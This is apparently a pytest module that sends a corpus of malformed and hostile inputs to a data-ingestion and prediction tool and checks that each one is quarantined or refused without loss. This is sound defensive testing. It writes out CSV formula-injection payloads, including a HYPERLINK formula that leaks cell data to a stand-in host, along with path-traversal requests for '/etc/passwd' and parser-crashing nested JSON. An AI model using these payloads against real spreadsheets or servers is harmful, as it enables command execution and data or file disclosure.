"""Hostile inputs from tests/corpus: data files, configs and API request bodies.

For each one: no traceback, a clear message, the exit code or HTTP status stated here, and nothing
lost (the master dataset keeps its rows, the deployment stays). tests/corpus/README.md lists every
file with what is wrong with it and what riskwatch must do.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from riskwatch.api import create_app
from riskwatch.config import Settings, load_settings
from riskwatch.ingestion.ingest import ingest
from riskwatch.model.registry import read_deployment
from riskwatch.schema import REQUIRED

from .conftest import (
    Workspace,
    api_settings,
    copy_workspace,
    csv_rows,
    private_copy,
    run,
)

CORPUS = Path(__file__).parent / "corpus"


# Data files: the real `riskwatch ingest --json` with one bad file beside an ingested good one

INGEST_EXIT = 0  # bad files and bad rows are quarantined, not errors: ingest exits 0 for each
SPARSE = "sparse_1gb.csv"
FORMULA_NAME = "=cmd|' calc'!A0.csv"
FORMULA_START = ("=", "+", "-", "@")
NUMBER = re.compile(r"-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")


@dataclass(frozen=True)
class DataCase:
    """A hostile data file and what ingestion must make of it."""

    name: str  # its name in the source folder
    whole: str = ""  # quarantined whole, with these words in the reason
    added: tuple[str, ...] = ()  # the corporations it adds to the master dataset
    bad: tuple[tuple[int, str], ...] = ()  # quarantined rows: (line, words of the reason)
    source: str = ""  # the corpus file it is a copy of, when its name differs


def whole(name: str, reason: str, source: str = "") -> DataCase:
    return DataCase(name, whole=reason, source=source)


DATA_CASES = [
    whole("empty.csv", "empty file"),
    whole("blank_only.csv", "empty file"),
    whole("binary_junk.csv", "binary file: it holds NUL bytes"),
    whole("utf16.csv", "save UTF-16 text as UTF-8"),
    whole("latin1_row.csv", "not UTF-8 text: invalid continuation byte (byte 0xe9)"),
    whole("latin1_header.csv", "not UTF-8 text: invalid continuation byte at byte 79 of line 1"),
    whole("no_header.csv", "no header row: the first line holds values"),
    DataCase("header_only.csv"),
    DataCase("extra_columns.csv", added=("extra_a", "extra_b")),
    whole("missing_column.csv", "required column(s) missing: exited"),
    whole("duplicate_header.csv", "column 'lastmonth_activity' appears more than once"),
    DataCase(
        "text_in_numbers.csv",
        added=("num_ok",),
        bad=(
            (3, "lastmonth_activity is not a number ('lots')"),
            (4, "lastyear_activity is not a number ('12abc')"),
            (5, "lastmonth_activity is not a whole number ('1.5')"),
            (6, "lastmonth_activity is not a number ('1,000')"),
            (7, "lastmonth_activity is not a number ('0x10')"),
            (8, "exited is not a number ('yes')"),
            (9, "exited must be 0 or 1 ('2')"),
        ),
    ),
    DataCase(
        "negative_numbers.csv",
        added=("neg_ok",),
        bad=(
            (3, "lastmonth_activity is negative ('-4')"),
            (4, "lastyear_activity is negative ('-12')"),
            (5, "number_of_employees is negative ('-3')"),
            (6, "exited is negative ('-1')"),
        ),
    ),
    DataCase(
        "huge_numbers.csv",
        added=("huge_boundary", "huge_sci_small"),  # exactly 10**12, and 1e3
        bad=(
            (3, "lastmonth_activity is implausibly large (over 1,000,000,000,000)"),
            (4, "lastmonth_activity is implausibly large"),
            (5, "lastmonth_activity is"),  # 1e30: its wording is test_..._called_too_large's
        ),
    ),
    DataCase(
        "huge_integer.csv",
        added=("big_ok",),
        bad=((3, "lastyear_activity is implausibly large"),),
    ),
    DataCase(
        "nan_inf.csv",
        added=("nan_ok",),
        bad=(
            (3, "lastmonth_activity is missing"),
            (4, "lastyear_activity is missing"),
            (5, "lastmonth_activity is not a number ('inf')"),
            (6, "lastyear_activity is not a number ('-inf')"),
            (7, "number_of_employees is not a number ('inf')"),
            (8, "exited is missing"),
        ),
    ),
    DataCase(
        "blank_lines.csv",
        added=("blank_a", "blank_b"),
        # Blank lines are read as empty rows, so that row numbers stay line numbers.
        bad=tuple((line, "corporation is empty") for line in (2, 4, 5, 7)),
    ),
    whole("unclosed_quote.csv", "not a readable CSV file: Error tokenizing data"),
    DataCase("crlf.csv", added=("crlf_a", "crlf_b")),
    DataCase(
        "formula_injection.csv",
        added=(
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://x.invalid/?leak="&A1,"click")',
        ),
        bad=(
            (7, "lastmonth_activity is negative ('-1')"),
            (8, "lastyear_activity is not a number ('lots')"),
        ),
    ),
    DataCase(
        "long_field.csv",
        added=("long_normal",),
        bad=((2, "corporation is 70,000 characters long; the limit is 200"),),
    ),
    DataCase(
        "wrong_field_count.csv",
        added=("fields_ok",),
        bad=(
            (3, "unparsable line: expected 5 fields, saw 7"),
            (4, "number_of_employees is missing; exited is missing"),
        ),
    ),
    whole("semicolon.csv", "required column(s) missing"),
    whole("broken_line.jsonl", "not valid JSON lines"),
    whole("csv_in_jsonl.jsonl", "not valid JSON lines"),
    whole("array_lines.jsonl", "not valid JSON lines on line 1: each line must be one JSON object"),
    DataCase(
        "text_in_numbers.jsonl",
        added=("jn_ok1", "jn_ok2"),
        bad=((2, "lastmonth_activity is not a number ('lots')"),),
    ),
    DataCase(
        "wrong_types.jsonl",
        added=("jt_ok",),
        bad=(
            (2, "lastmonth_activity is"),  # true: a count is not a boolean
            (3, "lastyear_activity is missing"),  # null
            (4, "number_of_employees is"),  # {"n": 3}
            (5, "exited"),  # [0]
            (6, "lastmonth_activity is not a whole number"),  # 2.5
            (7, "exited is missing"),  # no key
        ),
    ),
    DataCase("numeric_ids.jsonl", added=("jid_named", "12345")),
    whole("random_bytes.parquet", "not a readable Parquet file"),
    whole("truncated.parquet", "not a readable Parquet file"),
    whole("missing_column.parquet", "required column(s) missing: exited"),
    DataCase(
        "bad_values.parquet",
        added=("pqv_ok",),
        bad=(  # Parquet has no lines: the row number, counting from 1
            (2, "corporation is empty"),
            (3, "lastmonth_activity is missing"),
            (4, "lastmonth_activity is not a number ('inf')"),
            (5, "lastmonth_activity is negative ('-4')"),
            (6, "lastmonth_activity is"),  # 1e30, see huge_numbers.csv
        ),
    ),
    whole(SPARSE, "binary file"),
    whole(FORMULA_NAME, "empty file", source="empty.csv"),
]
DATA_XFAIL: dict[str, str] = {}  # none left: the bugs it found are fixed
DATA_PARAMS = [
    pytest.param(
        case,
        id="formula-file-name" if case.name == FORMULA_NAME else case.name,
        marks=[pytest.mark.xfail(strict=True, reason=DATA_XFAIL[case.name])]
        if case.name in DATA_XFAIL
        else [],
    )
    for case in DATA_CASES
]
CASES_BY_NAME = {case.name: case for case in DATA_CASES}


@dataclass(frozen=True)
class Ingested:
    """The real command run on one bad file, in its own copy of the good workspace."""

    case: DataCase
    workspace: Workspace
    result: subprocess.CompletedProcess[str]

    @property
    def output(self) -> Path:
        return self.workspace.settings.output_folder_path

    def batch(self) -> dict[str, Any]:
        batches = json.loads(self.result.stdout)["batches"]
        [batch] = [b for b in batches if b["name"] == self.case.name]
        return dict(batch)

    def listed(self) -> list[str]:
        return (self.output / "ingestedfiles.txt").read_text(encoding="utf-8").splitlines()


class IngestRuns:
    """Each case's ingest, started ahead, two at a time; a test waits for its own."""

    # Each run is a fresh process that imports pandas (about 2 s): one after the other, the
    # 35 runs would take the whole time budget of this module.

    def __init__(
        self, template: Path, factory: pytest.TempPathFactory, pool: ThreadPoolExecutor
    ) -> None:
        self.template, self.factory, self.pool = template, factory, pool
        self.started: dict[str, Future[Ingested]] = {}

    def start(self, case: DataCase) -> None:
        if case.name not in self.started:
            workspace = copy_workspace(self.template, self.factory.mktemp("bad"))
            self.started[case.name] = self.pool.submit(ingest_bad_file, case, workspace)

    def __getitem__(self, name: str) -> Ingested:
        self.start(CASES_BY_NAME[name])
        return self.started[name].result()


def ingest_bad_file(case: DataCase, workspace: Workspace) -> Ingested:
    target = workspace.settings.input_folder_path / case.name
    if case.name == SPARSE:
        # Claims 1 GiB, yet is sparse: nothing past the header is ever written, so it takes no
        # disk, and the repository need not hold it.
        with target.open("wb") as handle:
            handle.write(csv_rows("sparse_a,1,12,3,0").encode())
            handle.truncate(2**30)
    else:
        shutil.copyfile(CORPUS / "data" / (case.source or case.name), target)
    config = str(workspace.settings.config_file)
    result = run("--config", config, "ingest", "--json", cwd=workspace.path)
    return Ingested(case, workspace, result)


@pytest.fixture(scope="module")
def good_workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workspace whose good.csv (three clients) is ingested: the rows that must never be lost."""
    path = tmp_path_factory.mktemp("good")
    (path / "sourcedata").mkdir()
    (path / "riskwatch.toml").write_text('input_folder_path = "sourcedata"\n')
    rows = csv_rows("good_a,1,12,3,0", "good_b,2,24,4,1", "good_c,30,300,40,0")
    (path / "sourcedata" / "good.csv").write_text(rows)
    ingest(load_settings(path / "riskwatch.toml", env={}))
    return path


@pytest.fixture(scope="module")
def good_master(good_workspace: Path) -> pd.DataFrame:
    return pd.read_parquet(good_workspace / "ingesteddata" / "finaldata.parquet")


@pytest.fixture(scope="module")
def ingested(
    request: pytest.FixtureRequest,
    good_workspace: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[IngestRuns]:
    """The ingest runs, those of the data cases this session selected started at once."""
    with ThreadPoolExecutor(max_workers=2) as pool:
        runs = IngestRuns(good_workspace, tmp_path_factory, pool)
        for item in request.session.items:
            callspec = getattr(item, "callspec", None)
            case = callspec.params.get("case") if callspec is not None else None
            if isinstance(case, DataCase):
                runs.start(case)
        yield runs


def master_rows(frame: pd.DataFrame) -> set[tuple[Any, ...]]:
    return set(frame[[*REQUIRED, "batch_id"]].itertuples(index=False, name=None))


@pytest.mark.parametrize("case", DATA_PARAMS)
def test_bad_data_file_is_quarantined_with_its_reason_and_nothing_is_lost(
    ingested: IngestRuns, good_master: pd.DataFrame, case: DataCase
) -> None:
    ran = ingested[case.name]
    assert "Traceback" not in ran.result.stderr
    assert "internal error" not in ran.result.stderr
    assert ran.result.returncode == INGEST_EXIT, ran.result.stderr
    batch = ran.batch()
    if case.whole:
        check_quarantined_whole(ran, batch)
    else:
        check_bad_rows(ran, batch)
    # Nothing lost: every earlier row is still in the record, and only the stated ones are new.
    after = pd.read_parquet(ran.output / "finaldata.parquet")
    assert master_rows(good_master) <= master_rows(after)
    new = after.loc[~after["batch_id"].isin(good_master["batch_id"]), "corporation"]
    assert Counter(new) == Counter(case.added)
    classic = pd.read_csv(ran.output / "finaldata.csv", keep_default_na=False)
    assert {"good_a", "good_b", "good_c"} <= set(classic["corporation"])
    assert ran.listed()[0] == "good.csv"
    assert (ran.workspace.settings.input_folder_path / case.name).exists()  # left in place
    again = run("ingest", "--json", cwd=ran.workspace.path)  # not retried: nothing is new
    assert again.returncode == 0, again.stderr
    report = json.loads(again.stdout)
    assert report["new_data"] is False
    assert report["previously_quarantined"] == ([case.name] if case.whole else [])


def check_quarantined_whole(ran: Ingested, batch: dict[str, Any]) -> None:
    case = ran.case
    assert batch["status"] == "quarantined"
    assert case.whole in batch["reason"]
    assert f"quarantined {case.name}: {batch['reason']}" in ran.result.stderr
    quarantine = ran.output / "quarantine"
    assert batch["quarantine_file"] == str(quarantine / "quarantined_files.csv")
    log = pd.read_csv(quarantine / "quarantined_files.csv", keep_default_na=False)
    assert [name.removeprefix("'") for name in log["file"]] == [case.name]
    assert log["reason"].tolist() == [batch["reason"]]
    copies = sorted((quarantine / "files").glob("*"))
    if case.name == SPARSE:
        assert copies == []  # over the 50 MiB copy limit: recorded, not copied
    else:
        [copy] = copies
        assert copy.read_bytes() == (CORPUS / "data" / (case.source or case.name)).read_bytes()
    assert case.name not in ran.listed()


def check_bad_rows(ran: Ingested, batch: dict[str, Any]) -> None:
    case = ran.case
    assert batch["status"] == "ingested", batch["reason"]
    assert (batch["rows_added"], batch["rows_quarantined"]) == (len(case.added), len(case.bad))
    if case.bad:
        bad = pd.read_csv(batch["quarantine_file"], keep_default_na=False, dtype=str)
        reasons = dict(zip(bad["line"].astype(int), bad["reason"], strict=True))
        assert sorted(reasons) == [line for line, _ in case.bad]
        for line, words in case.bad:
            assert words in reasons[line], (line, reasons[line])
        assert not [r for r in reasons.values() if "(nan)" in r]
        assert set(bad["file"]) == {case.name}
    else:
        assert batch["quarantine_file"] == ""
    assert case.name in ran.listed()


def raw_cells(text: str) -> list[str]:
    """Every cell of a CSV text as written, quotes included (no field here spans lines)."""
    cells = []
    for line in text.splitlines():
        cells += re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', line)
    return cells


def formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @, and not a plain number."""
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_formula_injection_reaches_the_master_exactly_and_only_quoted_in_its_csv(
    ingested: IngestRuns,
) -> None:
    ran = ingested["formula_injection.csv"]
    record = pd.read_parquet(ran.output / "finaldata.parquet")
    assert "=cmd|' /C calc'!A0" in set(record["corporation"])  # the id, exactly as sent
    text = (ran.output / "finaldata.csv").read_text(encoding="utf-8")
    assert formulas(raw_cells(text)) == []
    assert "\"=cmd|' /C calc'!A0\"" in text  # present, and quoted


def test_formula_injection_is_neutralised_in_the_quarantine_csv(ingested: IngestRuns) -> None:
    ran = ingested["formula_injection.csv"]
    path = Path(ran.batch()["quarantine_file"])
    text = path.read_text(encoding="utf-8")
    assert formulas(raw_cells(text)) == []
    parsed = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert formulas(parsed) == []  # not only quoted: inert once a spreadsheet reads it
    bad = pd.read_csv(path, keep_default_na=False, dtype=str)
    assert bad["corporation"].tolist() == ["'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_formula_file_name_is_neutralised_in_the_quarantine_log(ingested: IngestRuns) -> None:
    ran = ingested[FORMULA_NAME]
    text = (ran.output / "quarantine" / "quarantined_files.csv").read_text(encoding="utf-8")
    parsed = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert formulas(parsed) == []
    assert "'" + FORMULA_NAME in parsed


def test_sparse_gigabyte_file_is_recorded_but_not_copied_into_quarantine(
    ingested: IngestRuns,
) -> None:
    ran = ingested[SPARSE]
    assert (ran.workspace.settings.input_folder_path / SPARSE).stat().st_size == 2**30
    assert ran.batch()["reason"].startswith("binary file")  # NULs past the header
    assert not (ran.output / "quarantine" / "files").exists()  # over the 50 MiB copy limit


def test_extra_columns_are_dropped_from_the_master(ingested: IngestRuns) -> None:
    record = pd.read_parquet(ingested["extra_columns.csv"].output / "finaldata.parquet")
    assert list(record.columns) == [*REQUIRED, "batch_id"]


@pytest.mark.parametrize(("name", "line"), [("huge_numbers.csv", 5), ("bad_values.parquet", 6)])
def test_number_over_the_limit_in_exponent_form_is_called_too_large(
    ingested: IngestRuns, name: str, line: int
) -> None:
    bad = pd.read_csv(ingested[name].batch()["quarantine_file"], keep_default_na=False, dtype=str)
    reasons = dict(zip(bad["line"].astype(int), bad["reason"], strict=True))
    assert "lastmonth_activity is implausibly large" in reasons[line]


def test_broken_json_line_is_named_by_its_line_number(ingested: IngestRuns) -> None:
    reason = ingested["broken_line.jsonl"].batch()["reason"]
    assert "line 3" in reason


# Configs: `riskwatch --config <bad file> ingest` stops before doing anything

CONFIG_CASES: list[tuple[str, tuple[str, ...]]] = [
    ("syntax_error.toml", ("not valid TOML", "(at line 2, column 35)")),
    (
        "unknown_key.toml",
        ("key 'input_folder': unknown setting (did you mean 'input_folder_path'",),
    ),
    ("wrong_type.toml", ("key 'read_chunk_rows': must be a whole number, got '1000'",)),
    ("out_of_range.toml", ("key 'decision_threshold': must be at most 1.0, got 1.5",)),
    ("zero_chunk.toml", ("key 'read_chunk_rows': must be at least 1, got 0",)),
    ("huge_int.toml", ("key 'read_chunk_rows'",)),
    ("nan_number.toml", ("key 'api_timeout': must be a finite number, got nan",)),
    ("bad_choice.toml", ("key 'source': must be one of folder, database, got 's3'",)),
    ("nested_table.toml", ("key 'paths': unknown setting",)),
    ("database_without_url.toml", ("key 'source_url': required when source = 'database'",)),
    (
        "bands_reversed.toml",
        ("key 'risk_band_medium' (0.6) must not be above risk_band_high (0.3)",),
    ),
    ("not_utf8.toml", ("cannot read the configuration file", "0xe9")),
    ("syntax_error.json", ("not valid JSON", "line 3 column 1")),
    ("non_string_path.json", ("key 'input_folder_path': must be a string, got 5",)),
    ("empty.json", ("not valid JSON", "line 1 column 1")),
    ("not_a_table.json", ("the configuration must be a table of key = value settings",)),
    ("null_value.json", ("key 'read_chunk_rows': must be a whole number, got None",)),
    ("bool_for_int.json", ("key 'model_seed': must be a whole number, got True",)),
]
CONFIG_XFAIL: dict[str, str] = {}
CONFIG_PARAMS = [
    pytest.param(
        name,
        words,
        id=name,
        marks=[pytest.mark.xfail(strict=True, reason=CONFIG_XFAIL[name])]
        if name in CONFIG_XFAIL
        else [],
    )
    for name, words in CONFIG_CASES
]


@pytest.mark.parametrize(("name", "words"), CONFIG_PARAMS)
def test_bad_config_exits_2_naming_the_file_and_the_key_and_touches_nothing(
    tmp_path: Path, name: str, words: tuple[str, ...]
) -> None:
    (tmp_path / "sourcedata").mkdir()
    (tmp_path / "sourcedata" / "good.csv").write_text(csv_rows("good_a,1,12,3,0"))
    config = tmp_path / name
    shutil.copyfile(CORPUS / "configs" / name, config)
    before = sorted(tmp_path.rglob("*"))
    result = run("--config", str(config), "ingest", "--json", cwd=tmp_path)
    assert "Traceback" not in result.stderr
    assert result.returncode == 2, result.stderr
    assert f"configuration error: {config.resolve()}: " in result.stderr
    for word in words:
        assert word in result.stderr
    # --json: one error document on stdout, the same message as stderr's
    document = json.loads(result.stdout)
    assert document["exit_code"] == 2
    assert document["command"] == "ingest"
    assert document["error"].startswith(f"configuration error: {config.resolve()}: ")
    assert sorted(tmp_path.rglob("*")) == before  # no database, no master dataset


# API: POST /prediction on a deployed 2,000-client demo

CONTENT_TYPES = {".json": "application/json", ".csv": "text/csv", ".xml": "application/xml"}
ONE = {
    "corporation": "c1",
    "lastmonth_activity": 3,
    "lastyear_activity": 400,
    "number_of_employees": 12,
}
API_CASES = [
    ("text_count.json", 422, "clients[0].lastmonth_activity"),
    ("float_count.json", 422, "clients[1].lastyear_activity"),
    ("bool_count.json", 422, "clients[0].number_of_employees"),
    ("string_number.json", 422, "clients[0].lastmonth_activity"),
    ("missing_field.json", 422, "clients[0].corporation: Field required"),
    ("negative_count.json", 422, "clients[2].number_of_employees"),
    ("huge_count.json", 422, "clients[0].lastyear_activity"),
    ("overflow_float.json", 422, "clients[0].lastmonth_activity"),
    ("nan_count.json", 422, "clients[0].lastmonth_activity"),
    ("empty_clients.json", 422, "clients: List should have at least 1 item"),
    ("clients_not_a_list.json", 422, "clients: Input should be a valid array"),
    ("null_client.json", 422, "clients[1]: Input should be an object"),
    ("neither.json", 422, "send exactly one of 'clients', 'dataset' or 'filepath'"),
    ("both.json", 422, "this request sends clients and dataset"),
    ("unknown_field.json", 422, "client: unknown field; did you mean 'clients'?"),
    ("list_body.json", 422, "body: Input should be an object"),
    ("long_corporation.json", 422, "clients[0].corporation"),
    ("dataset_not_a_string.json", 422, "dataset: Input should be a valid string"),
    ("traversal_parent.json", 400, "dataset '../riskwatch.toml' is refused"),
    ("traversal_absolute.json", 400, "dataset '/etc/passwd' is refused"),
    ("traversal_nested.json", 400, "dataset 'testdata/../../x' is refused"),
    ("traversal_nul.json", 400, "is refused"),
    ("workspace_file.json", 400, "dataset 'riskwatch.db' is refused"),
    ("not_json.json", 400, "the body is not valid JSON"),
    ("utf16.json", 400, "the body is not valid JSON"),
    ("xml_body.xml", 415, "not application/xml"),
    ("negative_row.csv", 422, "line 3: lastmonth_activity is negative ('-1')"),
    ("missing_column.csv", 422, "required column(s) missing"),
    ("binary.csv", 422, "binary file"),
    ("huge_integer.csv", 422, "line 2: lastyear_activity is implausibly large"),
]
API_XFAIL: dict[str, str] = {}
API_PARAMS = [
    pytest.param(
        name,
        status,
        named,
        id=name,
        marks=[pytest.mark.xfail(strict=True, reason=API_XFAIL[name])] if name in API_XFAIL else [],
    )
    for name, status, named in API_CASES
]


@dataclass(frozen=True)
class Api:
    """A client of the app over a deployed workspace, and the workspace's state before."""

    client: TestClient
    settings: Settings
    before: tuple[Any, ...]


def workspace_state(settings: Settings) -> tuple[Any, ...]:
    """What no request may change: the deployment and the master dataset."""
    master = settings.output_folder_path / "finaldata.parquet"
    return (
        read_deployment(settings.prod_deployment_path),
        os.path.realpath(settings.prod_deployment_path),
        hashlib.sha256(master.read_bytes()).hexdigest(),
    )


@pytest.fixture(scope="module")
def api(
    deployed_template: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Api]:
    built = private_copy(deployed_template(months=2, seed=5), tmp_path_factory, "api")
    settings = api_settings(built)
    assert read_deployment(settings.prod_deployment_path) is not None
    # A server error must show as the 500 a user gets, not as an exception in the test.
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        yield Api(client, settings, workspace_state(settings))


def post(api: Api, body: Any, kind: str = "application/json") -> Any:
    return api.client.post("/prediction", content=body, headers={"content-type": kind})


@pytest.mark.parametrize(("name", "status", "named"), API_PARAMS)
def test_bad_request_body_is_refused_naming_the_problem_and_changes_nothing(
    api: Api, name: str, status: int, named: str
) -> None:
    path = CORPUS / "api" / name
    answer = post(api, path.read_bytes(), CONTENT_TYPES[path.suffix])
    assert answer.status_code == status, answer.text
    assert named in answer.json()["detail"]
    assert "root:" not in answer.text  # nothing of /etc/passwd, or any file, is read back
    assert workspace_state(api.settings) == api.before


DEEP = {
    "array": b"[" * 100_000,
    "object": b'{"a": ' * 100_000,
    "inside-clients": b'{"clients": ' + b"[" * 100_000,
}


@pytest.mark.parametrize("shape", DEEP)
def test_deeply_nested_json_is_refused_and_the_server_lives_on(api: Api, shape: str) -> None:
    answer = post(api, DEEP[shape])
    assert answer.status_code in (400, 422), answer.text
    assert "not valid JSON" in answer.json()["detail"]
    assert api.client.get("/health").status_code == 200
    assert workspace_state(api.settings) == api.before


def many_clients(count: int) -> bytes:
    one = json.dumps(ONE).encode()
    return b'{"clients": [' + b",".join([one] * count) + b"]}"


def test_body_over_the_size_limit_is_refused_with_413_declared_or_streamed(api: Api) -> None:
    limit = api.settings.api_max_body_bytes
    body = many_clients(limit // len(json.dumps(ONE)) + 1)
    assert len(body) > limit
    declared = post(api, body)
    assert declared.status_code == 413
    assert "api_max_body_bytes" in declared.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it streams in
        yield from (body[i : i + 2**20] for i in range(0, len(body), 2**20))

    streamed = post(api, chunks())
    assert streamed.status_code == 413
    assert "api_max_body_bytes" in streamed.json()["detail"]
    assert workspace_state(api.settings) == api.before


def test_more_clients_than_the_limit_are_refused_with_413(api: Api) -> None:
    body = many_clients(api.settings.api_max_clients + 1)
    assert len(body) <= api.settings.api_max_body_bytes  # the client count, not the size
    answer = post(api, body)
    assert answer.status_code == 413
    assert "api_max_clients" in answer.json()["detail"]
    assert workspace_state(api.settings) == api.before


# The corpus and its README agree with the cases above


def test_every_corpus_file_has_a_case_and_a_readme_row() -> None:
    cases = {
        "data": {case.source or case.name for case in DATA_CASES if case.name != SPARSE},
        "configs": {name for name, _ in CONFIG_CASES},
        "api": {name for name, _, _ in API_CASES},
    }
    readme = (CORPUS / "README.md").read_text(encoding="utf-8")
    for folder, named in cases.items():
        files = {path.name for path in (CORPUS / folder).iterdir()}
        assert files == named, folder
        assert not [name for name in files if f"| `{name}` |" not in readme], folder
    # The floor: 18 data files, 6 configs, 8 request bodies, 30 inputs in all.
    assert all(len(cases[f]) >= n for f, n in [("data", 18), ("configs", 6), ("api", 8)])
    assert sum(len(named) for named in cases.values()) >= 30
